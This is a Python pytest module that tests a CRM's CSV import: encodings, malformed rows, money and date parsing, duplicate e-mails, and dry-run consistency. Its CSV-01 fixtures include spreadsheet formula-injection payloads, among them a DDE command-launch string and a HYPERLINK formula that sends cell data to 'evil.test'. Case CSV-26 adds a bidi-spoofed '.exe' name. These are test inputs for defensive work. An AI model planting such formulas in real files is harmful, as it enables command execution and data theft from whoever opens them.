"""The shared cases of imports, their own files byte for byte: CSV-01 to CSV-43 as far as a file is all that they need.

CSV-34 needs consent and erasure, which are not there yet.
"""

from __future__ import annotations

from collections.abc import Callable
from decimal import Decimal
from typing import Any, Final

import attrs
import pytest

from crmcore.domain.errors import ImportRefused
from tests.application.importing.desk import Desk, counts, emails, phones
from tests.cases import case_file

Check = Callable[[Desk], object]
AMOUNTS: Final = 'ignore = ["email", "phone"]\n[columns]\namount = {{ field = "price"{} }}\n'
NAMES: Final = ["علی", "Zoë"]


@attrs.frozen(kw_only=True)
class Case:
    """A file, how it is taken in, how many rows are created, unchanged and rejected, and what is stored then."""

    id: str
    file: str
    record: str = "customer"
    options: dict[str, Any] = attrs.field(factory=dict)
    created: int
    unchanged: int = 0
    rejected: dict[int, str] = attrs.field(factory=dict)
    stored: tuple[Check, object]


def names(desk: Desk) -> list[Any]:
    """The names of all customers."""
    return [each.name for each in desk.all()]


def prices(desk: Desk) -> list[Any]:
    """The amounts of all products."""
    return [each.price and each.price.amount for each in desk.all("product")]


FORMULAS: Final = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
]
PARTED: Final = '[columns]\nemail = { field = "email", split = ";" }\n'
CASES: Final = (
    Case(id="CSV-01", file="csv01_formula", created=7, stored=(names, FORMULAS)),
    Case(id="CSV-03", file="csv03_bom", created=2, stored=(names, ["علی", "Sara"])),
    Case(id="CSV-04", file="csv04_utf16le", created=2, stored=(names, NAMES)),
    Case(id="CSV-05", file="csv05_utf16be_nobom", created=2, stored=(names, ["علی", "Zoe"])),
    Case(
        id="CSV-06",
        file="csv06_cp1256",
        options={"encoding": "cp1256"},
        created=2,
        stored=(names, ["علي محمدي", "گلاب چنگيز"]),
    ),
    Case(id="CSV-09", file="csv09_nul", created=1, rejected={2: "NUL"}, stored=(names, ["Sara"])),
    Case(id="CSV-10", file="csv10_huge_field", created=1, rejected={2: "too long"}, stored=(names, ["Sara"])),
    Case(id="CSV-12", file="csv12_ragged", created=2, rejected={3: "too many"}, stored=(names, ["Ali", "Mina"])),
    Case(
        id="CSV-13",
        file="csv13_quoted_nl",
        created=3,
        stored=(
            lambda desk: [each.addresses[0].street for each in desk.all()],
            ["No 1\r\nSt 2\nCity", 'He said "hi", left', "x"],
        ),
    ),
    Case(
        id="CSV-17",
        file="csv17_semicolon",
        record="product",
        options={"map": AMOUNTS.format(', decimal = ","').replace(', "phone"', "")},
        created=2,
        stored=(prices, [Decimal("1234.56"), Decimal("12.00")]),
    ),
    Case(
        id="CSV-19",
        file="csv19_digits",
        options={"match": "phone", "map": 'ignore = ["amount"]'},
        created=1,
        unchanged=2,
        stored=(lambda desk: [phones(each) for each in desk.all()], [["09123456789"]]),
    ),
    Case(
        id="CSV-19 (amounts)",
        file="csv19_digits",
        record="product",
        options={"map": AMOUNTS.format("").replace('"email", ', "")},
        created=3,
        stored=(prices, [Decimal("12345.67")] * 3),
    ),
    Case(
        id="CSV-24",
        file="csv24_money",
        record="product",
        options={"map": AMOUNTS.format(', currency = "USD"').replace(', "phone"', "")},
        created=4,
        rejected=dict.fromkeys(range(2, 7), "number"),
        stored=(prices, [None, Decimal("5.005"), Decimal("0.10"), Decimal("0.20")]),
    ),
    Case(
        id="CSV-26",
        file="csv26_bidi",
        created=3,
        stored=(names, ["Ali\u202egpj.exe", "\u2067شرکت ACME (ایران) 123", "Normal Name"]),
    ),
    Case(
        id="CSV-28",
        file="csv28_letters",
        created=5,
        stored=(lambda desk: len({each.name for each in desk.all()}), 5),
    ),
    Case(id="CSV-30", file="csv30_empty", created=0, stored=(names, [])),
    Case(
        id="CSV-37",
        file="csv37_multi_mail",
        created=0,
        rejected=dict.fromkeys((2, 3, 4), "not one e-mail address alone"),
        stored=(names, []),
    ),
    Case(
        id="CSV-37 (parted)",
        file="csv37_multi_mail",
        options={"map": PARTED},
        created=1,
        rejected=dict.fromkeys((3, 4), "not one e-mail address alone"),
        stored=(lambda desk: [emails(each) for each in desk.all()], [["a@example.com", "b@example.com"]]),
    ),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_a_file_comes_in_as_agreed_and_a_rehearsal_says_so(desk: Desk, case: Case) -> None:
    """What was agreed upon before the code was written would not hold; CSV-43: a rehearsal would differ, or write."""
    path = case_file(f"csv/{case.file}.csv")
    rehearsed = desk.take(path, case.record, dry=True, **case.options)
    assert desk.all(case.record) == []
    taken = desk.take(path, case.record, **case.options)
    assert counts(taken) == counts(rehearsed)
    assert [attrs.astuple(each) for each in taken.rejects] == [attrs.astuple(each) for each in rehearsed.rejects]
    assert (taken.created, taken.unchanged, taken.rejected) == (case.created, case.unchanged, len(case.rejected))
    assert {each.line for each in taken.rejects} == set(case.rejected)
    assert all(case.rejected[each.line] in each.reason for each in taken.rejects)
    found, expected = case.stored
    assert found(desk) == expected


@pytest.mark.parametrize(
    ("file", "record", "map", "message"),
    [
        ("csv06_cp1256", "customer", "", "unknown encoding.*cp1256"),
        ("csv15_dup_headers", "customer", "", "more than once: 'email'"),
        ("csv17_semicolon", "product", AMOUNTS.format("").replace(', "phone"', ""), "column 'amount'.*--decimal ,"),
        ("csv21_dates", "customer", "", "column 'birthday'.*no one format fits all values"),
        ("csv22_jalali", "customer", "", "column 'birthday'.*--calendar jalali"),
    ],
    ids=["CSV-06", "CSV-15", "CSV-17", "CSV-21", "CSV-22"],
)
def test_what_could_mean_two_things_is_asked_about(
    in_memory: Desk, file: str, record: str, map: str, message: str
) -> None:
    """Something would be guessed, and be wrong in some rows."""
    for dry in (True, False):
        with pytest.raises(ImportRefused, match=message):
            in_memory.take(case_file(f"csv/{file}.csv"), record, map=map, dry=dry)
    assert in_memory.all(record) == []


def test_one_person_many_times_is_one_record(desk: Desk) -> None:
    """CSV-40, a fortieth of it: spellings of one address would make a customer each."""
    spellings = ["ali@example.com", "ALI@example.com", " ali@example.com ", "Ali@EXAMPLE.com"]
    rows = "".join(f"Ali {n},{spellings[n % 4]}\r\n" for n in range(5_000))
    report = desk.take(f"name,email\r\n{rows}", match="email")
    assert counts(report) == (5_000, 1, 0, 4_999, 0)
    assert [emails(each) for each in desk.all()] == [["ali@example.com"]]
